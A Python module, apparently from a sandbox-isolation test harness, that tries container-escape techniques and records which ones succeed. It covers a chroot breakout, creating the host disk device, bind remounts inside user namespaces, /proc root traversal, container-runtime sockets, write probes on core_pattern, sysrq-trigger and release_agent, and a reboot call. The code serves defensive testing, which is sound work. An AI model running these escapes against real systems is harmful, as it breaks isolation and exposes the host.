"""What hostile programs share: `run` tries the way out that an item names, and stores what came of it.

Where a wall is missing, the machine under it is one that runs tests: a way ends at the open door. What would change the
kernel is opened for writing, and nothing is written.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterable, Mapping
from functools import partial
from pathlib import Path

IN = "IN: "
"""How an answer begins if the way was open."""
MS_REMOUNT, MS_BIND = 32, 4096
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
NO_SUCH_THING = "there is no such thing in this container"
libc = ctypes.CDLL(None, use_errno=True)


def run(ways: Mapping[str, Callable[[], object]]) -> None:
    """Try the way that the first argument names; the second one is the folder of the answer."""
    name, folder = sys.argv[1:3]
    try:
        found = ways[name]()
        said = f"{IN}{found}" if found else NO_SUCH_THING
    except BaseException as error:
        said = f"{type(error).__name__}: {error}"
    Path(folder, "said").write_text(said[:2000])


def asked(request: urllib.request.Request, timeout: float = 30) -> str:
    """The answer to a request; its refusal is an error that says what the server said."""
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return f"{answer.status} {answer.read(500).decode(errors='replace')}"
    except urllib.error.HTTPError as error:
        raise PermissionError(f"{error.code} {error.read(800).decode(errors='replace')}") from None


def call(result: int) -> int:
    """The result of a system call, or its error."""
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def write(path: str, text: str = "owned") -> str:
    Path(path).write_text(text)
    return path


def remount(folder: str) -> str:
    """Make what the machine shows read-only writable."""
    call(libc.mount(b"none", folder.encode(), None, MS_REMOUNT | MS_BIND, None))
    return write(f"{folder}/owned")


def remount_as_root_of_ones_own(folder: str) -> str:
    """The same with all capabilities of a new user namespace, where one is to be had."""
    call(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    return remount(folder)


def device() -> str:
    """Open the machine's disk."""
    os.mknod("/tmp/disk", 0o60600, os.makedev(259, 0))
    return str(os.open("/tmp/disk", os.O_RDWR))


def up(marks: list[str]) -> list[str]:
    """Leave a root that a process has changed itself: what lies above is the machine, if it has its files."""
    os.makedirs("/tmp/inner", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [mark for mark in marks if os.path.exists(mark)]


def through_processes(marks: list[str]) -> list[str]:
    """Files of the machine through the root of a process that is seen here."""
    roots = [f"/proc/{pid}/root" for pid in os.listdir("/proc") if pid.isdigit()]
    return [root + mark for root in roots for mark in marks if os.path.exists(root + mark)]


def processes(words: list[str]) -> list[str]:
    """Processes of the machine or of other containers, by words of their command lines."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            line = Path("/proc", pid, "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        found += [line for word in words if word in line and "hostile" not in line and "out_of_" not in line]
    return found


def sockets(paths: list[str]) -> list[str]:
    """What starts containers."""
    found = []
    for path in paths:
        with socket.socket(socket.AF_UNIX) as tried:
            try:
                tried.connect(path)
                found.append(path)
            except OSError as error:
                if error.errno not in (errno.ENOENT, errno.ECONNREFUSED, errno.ENOTDIR):
                    raise
    return found


def reboot() -> str:
    """Take the machine down, with what runs on it; here only turn a key off, which takes the same right."""
    call(libc.reboot(0))
    return "down"


def openable(paths: Iterable[str]) -> list[str]:
    """Files that would open for writing."""
    found = []
    for path in paths:
        os.close(os.open(path, os.O_WRONLY))
        found.append(path)
    return found


def core_pattern() -> list[str]:
    """The kernel runs what this names, as root of the machine, when a program crashes."""
    return openable(["/proc/sys/kernel/core_pattern"])


def key_of_the_kernel() -> list[str]:
    """A letter written here makes the kernel crash, kill or reboot."""
    return openable(filter(os.path.exists, ["/proc/sysrq-trigger"]))


def release_agent() -> list[str]:
    """The kernel runs what this names when a control group is empty."""
    return openable(glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True))


def to_the_machine(files: list[str], words: list[str], socket_: str) -> dict[str, Callable[[], object]]:
    """Ways from a container to the machine and its kernel.

    Args:
        files: Files that the machine has.
        words: Words of the command lines of its processes.
        socket_: One that starts containers, besides those of Docker.
    """
    return {
        "the machine's disk": device,
        "the machine's root by chroot": partial(up, files),
        "the machine's root by processes": partial(through_processes, files),
        "processes of the machine": partial(processes, words),
        "sockets that start containers": partial(
            sockets, ["/var/run/docker.sock", "/run/containerd/containerd.sock", socket_]
        ),
        "the kernel's core pattern": core_pattern,
        "the kernel's own keys": key_of_the_kernel,
        "a control group's agent": release_agent,
        "a reboot": reboot,
    }
